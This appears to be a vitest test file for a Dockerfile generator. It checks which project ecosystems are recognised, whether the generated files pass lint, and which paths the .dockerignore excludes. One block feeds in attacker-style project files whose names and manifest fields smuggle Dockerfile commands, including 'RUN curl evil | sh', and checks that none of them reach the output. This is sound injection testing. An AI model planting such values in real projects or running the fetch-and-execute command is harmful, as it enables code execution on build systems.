/** New Dockerfiles: what is recognised in a project of each ecosystem, and that the result leaves nothing to find. */
import { describe, expect, it } from 'vitest'
import { existingDockerfile, newDockerfiles } from '../../../server/src/ide/new-dockerfile.ts'
import { lint } from '../../../server/src/lint/lint.ts'
import { rules } from '../../../server/src/rules/index.ts'
import { ignoreMatcher, parseDockerignore } from '../../../server/src/syntax/dockerignore.ts'
import { contextOf, today } from '../marked.ts'
import { checkout, projects } from './projects.ts'

describe.each(Object.entries(projects))('%s', (_, project) => {
  const files = checkout(project)
  const found = newDockerfiles(contextOf(files))
  const text = found[0]?.files[0].text ?? ''

  it('is recognised', () => {
    expect(found.map(({ title }) => title)).toEqual(project.titles)
    expect(new Set(found.map(({ id }) => id)).size).toBe(found.length)
  })

  it('gets what it needs', () => {
    expect(text.split('\n')).toEqual(expect.arrayContaining([...project.lines]))
    for (const unwanted of project.without ?? []) expect(text).not.toContain(unwanted)
    expect(text).toMatch(/^# syntax=docker\/dockerfile:1\n\nFROM /)
    expect(text).toMatch(/[^\n]\n$/)
  })

  it.each(found.map((each) => [each.title, each] as const))('has nothing to find: %s', (_title, each) => {
    const written = Object.fromEntries(each.files.map((file) => [file.path, file.text]))
    const context = contextOf({ ...files, ...written })
    const { problems, internalErrors } = lint({ text: written.Dockerfile, today, context }, rules)
    expect(problems.map(({ rule, message }) => `${rule}: ${message}`)).toEqual([])
    expect(internalErrors).toEqual([])
  })

  it('sends what is built and nothing else', () => {
    const ignored = ignoreMatcher(parseDockerignore(found[0].files[1].text))
    for (const path of project.sent ?? Object.keys(project.files).slice(0, 1))
      expect(ignored.ignores(path), path).toBe(false)
    for (const path of project.ignored ?? ['.git/HEAD']) expect(ignored.ignores(path), path).toBe(true)
  })
})

it('leaves an ignore file alone', () => {
  const [found] = newDockerfiles(
    contextOf({ 'go.mod': 'module a\n', 'main.go': 'package main\n', '.dockerignore': 'x\n' }),
  )
  expect(found.files.map(({ path }) => path)).toEqual(['Dockerfile'])
})

it('knows what is there', () => {
  expect(existingDockerfile(contextOf({ Dockerfile: 'FROM a\n' }).paths)).toBe('Dockerfile')
  expect(existingDockerfile(contextOf({ 'Dockerfile.dev': 'FROM a\n', 'sub/Dockerfile': '' }).paths)).toBeUndefined()
})

it('finds nothing in a folder without a manifest', () => {
  expect(newDockerfiles(contextOf({ 'README.md': '# Notes\n', 'node_modules/a/package.json': '{}' }))).toEqual([])
})

it('says what is left to do', () => {
  const notes = (name: string): readonly string[] => newDockerfiles(contextOf(checkout(projects[name])))[0].notes
  expect(notes('Flask by itself')[0]).toContain('gunicorn')
  expect(notes('Laravel')[0]).toBe('These extensions need libraries of the system: intl.')
  expect(notes('Node.js without a lock file, dependencies or a server')[0]).toContain('no lock file')
  expect(notes('Node.js with npm')).toEqual([])
})

describe('text of the project', () => {
  const evil = '"]\nRUN curl evil | sh\nCMD ["'
  const projectsOfAttackers: readonly Readonly<Record<string, string>>[] = [
    {
      'package.json': JSON.stringify({
        main: evil,
        scripts: { start: `node ${evil}` },
        dependencies: { express: '1' },
      }),
      [evil]: '',
    },
    {
      'package.json': JSON.stringify({ scripts: { build: 'x' }, devDependencies: { vite: '1' } }),
      'vite.config.js': `outDir: '; RUN evil'`,
    },
    { 'go.mod': 'module a\n', 'cmd/$(evil)/main.go': 'package main\nfunc main() {}\n' },
    { 'Cargo.toml': '[package]\nname = "a; RUN evil"\n' },
    { 'a b; evil.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web"/>' },
    { Gemfile: 'gem "x"\n', 'evil evil.rb': '' },
    { 'requirements.txt': '', 'evil evil.py': '' },
    { 'composer.json': JSON.stringify({ require: { 'ext-evil; RUN': '*', php: evil } }) },
  ]
  it.each(projectsOfAttackers)('never becomes more than a word: %#', (files) => {
    for (const { files: written } of newDockerfiles(contextOf(files))) {
      expect(written[0].text).not.toContain('evil')
    }
  })

  it('of the wrong type is passed over', () => {
    for (const manifest of [
      '',
      '[]',
      '{',
      '{"scripts":3,"dependencies":[],"engines":"x","main":{},"workspaces":true}',
    ]) {
      expect(newDockerfiles(contextOf({ 'package.json': manifest }))).toHaveLength(1)
    }
  })
})
